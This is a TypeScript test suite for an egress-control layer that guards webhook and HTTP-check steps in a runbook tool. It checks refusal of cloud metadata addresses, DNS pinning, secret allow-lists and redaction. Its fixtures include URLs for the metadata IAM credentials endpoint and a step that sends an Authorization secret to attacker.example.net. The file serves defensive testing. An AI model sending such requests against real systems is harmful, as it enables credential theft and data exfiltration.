// Egress control at run time (activities/egress.ts), through the activities as the worker builds them, against
// a real local HTTP server and real DNS resolution: metadata addresses are refused before any connection, the
// connection goes to the checked address, the policy refuses unlisted secrets and hosts, and what a webhook
// step returns into history is the status and a short, redacted snippet of the body. A planted secret value
// never appears in a result or an error.
import assert from 'node:assert/strict';
import { subscribe, unsubscribe } from 'node:diagnostics_channel';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ApplicationFailure } from '@temporalio/common';
import { MockActivityEnvironment } from '@temporalio/testing';
import { AuditLog } from '../../api/audit-file.js';
import { createActivities } from '../../activities/index.js';
import { Clusters, Repos } from '../../activities/targets.js';
import { toolPaths } from '../../activities/tools.js';
import type { Lookup } from '../../activities/egress.js';
import { parsePolicy, type Policy } from '../../runbook/policy.js';
import type { Step } from '../../runbook/schema.js';
import type { StepRequest } from '../../runbook/types.js';
import { makeRunbook } from '../helpers/runbooks.js';

const TOKEN = 'tok-7f3a9c1e5b2d4f60a8e9';
const HEADER_SECRET = 'Bearer hdr-5c0ffee5ecret-91d2';

interface Seen {
  url: string;
  authorization?: string;
}

/** A server that echoes what it was sent (path, query, Authorization) in its body: a receiver reflecting secrets. */
async function startEcho(): Promise<{ server: Server; base: string; port: number; seen: Seen[]; status: { code: number } }> {
  const seen: Seen[] = [];
  const status = { code: 200 };
  const server = createServer((req: IncomingMessage, res: ServerResponse) => {
    req.resume();
    req.on('end', () => {
      seen.push({ url: req.url ?? '/', authorization: req.headers.authorization });
      res
        .writeHead(status.code, { 'content-type': 'text/plain', 'x-echo-url': req.url ?? '/' })
        .end(`received ${req.method} ${req.url} with authorization ${req.headers.authorization ?? 'none'}; ${'padding '.repeat(60)}`);
    });
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  const port = (server.address() as AddressInfo).port;
  return { server, base: `http://127.0.0.1:${port}`, port, seen, status };
}

const policyText = (port: number) => `
apiVersion: rearguard/v1
kind: Policy
metadata: { name: test }
spec:
  egress:
    secrets:
      - { env: HOOK_URL, hosts: [127.0.0.1, localhost] }
      - { env: HOOK_AUTH, hosts: ["127.0.0.1"] }
      - { env: SLACK_WEBHOOK_URL, hosts: [hooks.slack.com] }
    hosts: [127.0.0.1, localhost, pinned.test]
# port ${port}
`;

let echo: Awaited<ReturnType<typeof startEcho>>;
let dir: string;
let policy: Policy;
before(async () => {
  echo = await startEcho();
  dir = await mkdtemp(join(tmpdir(), 'egress-'));
  const loaded = parsePolicy(policyText(echo.port));
  if (!loaded.ok) throw new Error(loaded.problems.join('\n'));
  policy = loaded.value;
});
after(async () => {
  echo.server.closeAllConnections();
  await new Promise<void>((r) => echo.server.close(() => r()));
  await rm(dir, { recursive: true, force: true });
});

function activities(opts: { policy?: Policy; lookup?: Lookup; env?: Record<string, string> } = {}) {
  const env = {
    HOOK_URL: `${echo.base}/hook/${TOKEN}?key=${TOKEN}`,
    HOOK_AUTH: HEADER_SECRET,
    SLACK_WEBHOOK_URL: `${echo.base}/slack/${TOKEN}`,
    UNLISTED_URL: `${echo.base}/unlisted/${TOKEN}`,
    ...opts.env,
  };
  return createActivities({
    auditLog: new AuditLog(join(dir, 'audit.jsonl')),
    env,
    clusters: new Clusters({}),
    repos: new Repos({}),
    tools: toolPaths({}),
    ...(opts.policy ? { policy: opts.policy } : {}),
    ...(opts.lookup ? { lookup: opts.lookup } : {}),
  });
}

const stepRequest = (step: Record<string, unknown>): StepRequest => ({
  workflowId: 'rollback:prod:payments',
  target: { environment: 'prod', service: 'payments' },
  step: { name: 'hook', method: 'POST', ...step } as Step,
  idempotencyKey: 'rollback:prod:payments/run/hook',
  trigger: { actor: 'alice', reason: 'test', source: 'manual' },
});

const run = <T>(fn: () => Promise<T>): Promise<T> => new MockActivityEnvironment({ startToCloseTimeoutMs: 20_000 }).run(fn) as Promise<T>;

/** Every connection attempt (undici's and node:net's) while fn runs. */
async function connections<T>(fn: () => Promise<T>): Promise<{ result: PromiseSettledResult<T>; attempts: string[] }> {
  const attempts: string[] = [];
  const onUndici = (msg: unknown) => attempts.push(`undici ${(msg as { connectParams?: { hostname?: string } }).connectParams?.hostname}`);
  const onNet = () => attempts.push('net socket');
  subscribe('undici:client:beforeConnect', onUndici);
  subscribe('net.client.socket', onNet);
  try {
    const [result] = await Promise.allSettled([fn()]);
    return { result, attempts };
  } finally {
    unsubscribe('undici:client:beforeConnect', onUndici);
    unsubscribe('net.client.socket', onNet);
  }
}

/** A settled result's failure: a non-retryable ConfigurationError whose message matches, and holds no secret. */
function assertRefused(result: PromiseSettledResult<unknown>, message: RegExp): void {
  assert.equal(result.status, 'rejected', 'refused');
  const err = (result as PromiseRejectedResult).reason as unknown;
  assert.ok(err instanceof ApplicationFailure, `an ApplicationFailure, got ${String(err)}`);
  assert.equal(err.type, 'ConfigurationError');
  assert.equal(err.nonRetryable, true);
  assert.match(err.message, message);
  assertNoSecret(err.message);
}

function assertNoSecret(text: string): void {
  for (const secret of [TOKEN, HEADER_SECRET, 'hdr-5c0ffee5ecret-91d2']) assert.ok(!text.includes(secret), `a secret leaked into: ${text}`);
}

describe('egress at run time (real HTTP server, real DNS)', () => {
  it('connects normally to an allowed address, resolving localhost for real (the channels see the connection)', async () => {
    const before = echo.seen.length;
    const { result, attempts } = await connections(() =>
      run(() => activities().runStep(stepRequest({ type: 'webhook', url: `http://localhost:${echo.port}/plain` }))),
    );
    assert.equal(result.status, 'fulfilled', String((result as PromiseRejectedResult).reason));
    assert.equal(echo.seen.length, before + 1);
    assert.ok(attempts.length > 0, 'the diagnostics channels report connections');
  });

  for (const url of [
    'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    'http://[::ffff:169.254.169.254]/latest/',
    'http://[fd00:ec2::254]/',
  ]) {
    it(`refuses a webhook to ${url} without any connection attempt, with or without a policy`, async () => {
      for (const p of [undefined, policy]) {
        const { result, attempts } = await connections(() => run(() => activities({ policy: p }).runStep(stepRequest({ type: 'webhook', url }))));
        if (p) assertRefused(result, /refused by the egress policy.*is not in the policy's spec\.egress\.hosts/);
        else assertRefused(result, /refused: .*metadata address .*Rearguard never connects to it/);
        assert.deepEqual(attempts, []);
      }
    });
  }

  it('refuses a host name that resolves to a metadata or link-local address, even among allowed ones', async () => {
    const lookup: Lookup = async (host) =>
      host === 'metadata.test'
        ? [
            { address: '127.0.0.1', family: 4 },
            { address: '169.254.169.254', family: 4 },
          ]
        : [{ address: 'fe80::1', family: 6 }];
    for (const host of ['metadata.test', 'linklocal.test']) {
      const { result, attempts } = await connections(() =>
        run(() => activities({ lookup }).runStep(stepRequest({ type: 'webhook', url: `http://${host}:${echo.port}/x` }))),
      );
      assertRefused(result, new RegExp(`refused: ${host.replace('.', '\\.')} resolves to (169\\.254\\.169\\.254|fe80::1), .*(metadata|link-local)`));
      assert.deepEqual(attempts, []);
    }
  });

  it('connects to the address it checked, not to a second DNS answer', async () => {
    // pinned.test exists only in this lookup: fetch reaches the server only through the pinned address.
    let lookups = 0;
    const lookup: Lookup = async () => {
      lookups++;
      return [{ address: '127.0.0.1', family: 4 }];
    };
    const before = echo.seen.length;
    const r = await run(() => activities({ lookup, policy }).runStep(stepRequest({ type: 'webhook', url: `http://pinned.test:${echo.port}/pinned` })));
    assert.equal(r.status, 200);
    assert.equal(lookups, 1);
    assert.equal(echo.seen.at(-1)?.url, '/pinned');
    assert.equal(echo.seen.length, before + 1);
  });

  it('refuses, with a policy, a secret the policy does not list, before any request (in steps and notify targets)', async () => {
    const before = echo.seen.length;
    const a = activities({ policy });
    const step = await connections(() => run(() => a.runStep(stepRequest({ type: 'webhook', urlEnv: 'UNLISTED_URL' }))));
    assertRefused(
      step.result,
      /step hook: POST \$UNLISTED_URL: refused by the egress policy \(REARGUARD_POLICY\): environment variable UNLISTED_URL is not listed/,
    );
    const header = await connections(() =>
      run(() => a.runStep(stepRequest({ type: 'webhook', url: `${echo.base}/h`, headersFromEnv: { 'X-Key': 'UNLISTED_URL' } }))),
    );
    assertRefused(header.result, /environment variable UNLISTED_URL is not listed/);
    const notify = await connections(() =>
      run(() =>
        a.notify({
          workflowId: 'w',
          target: { environment: 'prod', service: 'payments' },
          targets: [{ name: 'oncall', type: 'slack', urlEnv: 'UNLISTED_URL' }],
          event: 'rollback.started',
          text: 'hi',
          details: {},
        }),
      ),
    );
    assertRefused(notify.result, /notify target oncall: POST \$UNLISTED_URL: refused by the egress policy/);
    assert.deepEqual([...step.attempts, ...header.attempts, ...notify.attempts], []);
    assert.equal(echo.seen.length, before, 'nothing reached the server');
  });

  it('refuses a listed secret whose URL points at a host its entry does not allow, naming the host, not the value', async () => {
    const a = activities({ policy });
    const notify = await connections(() =>
      run(() =>
        a.notify({
          workflowId: 'w',
          target: { environment: 'prod', service: 'payments' },
          targets: [{ name: 'oncall', type: 'slack', urlEnv: 'SLACK_WEBHOOK_URL' }],
          event: 'rollback.started',
          text: 'hi',
          details: {},
        }),
      ),
    );
    assertRefused(notify.result, /environment variable SLACK_WEBHOOK_URL may not be sent to 127\.0\.0\.1 \(the policy allows hooks\.slack\.com\)/);
    assert.deepEqual(notify.attempts, []);
  });

  it('refuses an http check to a metadata address at once instead of polling until its timeout', async () => {
    const started = Date.now();
    const { result } = await connections(() =>
      run(() =>
        activities().runCheck({
          workflowId: 'w',
          target: { environment: 'prod', service: 'payments' },
          check: {
            type: 'http',
            name: 'meta',
            url: 'http://169.254.169.254/',
            method: 'GET',
            expectStatus: 200,
            successes: 1,
            interval: 1_000,
            timeout: 10_000,
          },
        } as Parameters<ReturnType<typeof activities>['runCheck']>[0]),
      ),
    );
    assertRefused(result, /^GET http:\/\/169\.254\.169\.254\/: refused: 169\.254\.169\.254 is the cloud instance metadata address/);
    assert.ok(Date.now() - started < 5_000, 'not polled');
  });

  it('keeps only the status and a short redacted snippet of a webhook response, secrets removed', async () => {
    const r = await run(() =>
      activities({ policy }).runStep(stepRequest({ type: 'webhook', urlEnv: 'HOOK_URL', headersFromEnv: { Authorization: 'HOOK_AUTH' } })),
    );
    assert.equal(echo.seen.at(-1)?.authorization, HEADER_SECRET, 'the secret was sent to the allowed host');
    assert.deepEqual(Object.keys(r).sort(), ['attempt', 'response', 'status', 'url']);
    assert.equal(r.status, 200);
    assert.equal(r.url, '$HOOK_URL');
    const response = r.response as string;
    assert.ok(response.length <= 200, `at most 200 characters, got ${response.length}`);
    assert.match(response, /^received POST \[redacted\] with authorization \[redacted\];/);
    assertNoSecret(JSON.stringify(r));
  });

  it('redacts the secrets from the error of an unexpected status, and from transport errors', async () => {
    echo.status.code = 400;
    try {
      const { result } = await connections(() =>
        run(() => activities({ policy }).runStep(stepRequest({ type: 'webhook', urlEnv: 'HOOK_URL', headersFromEnv: { Authorization: 'HOOK_AUTH' } }))),
      );
      assertRefused(result, /POST \$HOOK_URL answered 400, expected 2xx: received POST \[redacted\] with authorization \[redacted\]/);
    } finally {
      echo.status.code = 200;
    }
    // A closed port: a retryable transport error, the URL's token nowhere in it.
    const spare = createServer();
    await new Promise<void>((r) => spare.listen(0, '127.0.0.1', r));
    const port = (spare.address() as AddressInfo).port;
    await new Promise<void>((r) => spare.close(() => r()));
    const closed = `http://127.0.0.1:${port}/hook/${TOKEN}?key=${TOKEN}`;
    const { result } = await connections(() =>
      run(() => activities({ policy, env: { HOOK_URL: closed } }).runStep(stepRequest({ type: 'webhook', urlEnv: 'HOOK_URL' }))),
    );
    assert.equal(result.status, 'rejected');
    const err = (result as PromiseRejectedResult).reason as ApplicationFailure;
    assert.equal(err.type, 'HttpUnavailable');
    assert.match(err.message, /^POST \$HOOK_URL: ECONNREFUSED$/);
    assertNoSecret(err.message);
  });

  it('lists the policy problems in preflight, before anything runs', async () => {
    const runbook = makeRunbook({
      steps: [{ name: 'leak', type: 'webhook', url: 'https://attacker.example.net/', headersFromEnv: { Authorization: 'HOOK_AUTH' } }],
      notify: [],
      escalation: [],
    });
    const problems = await run(() => activities({ policy }).preflight({ runbook }));
    assert.deepEqual(problems, [
      "spec.steps[0].url: host attacker.example.net is not in the policy's spec.egress.hosts (egress policy test)",
      'spec.steps[0].headersFromEnv.Authorization: environment variable HOOK_AUTH may not be sent to attacker.example.net (the policy allows 127.0.0.1) (egress policy test)',
    ]);
    assert.deepEqual(await run(() => activities().preflight({ runbook })), []);
  });
});
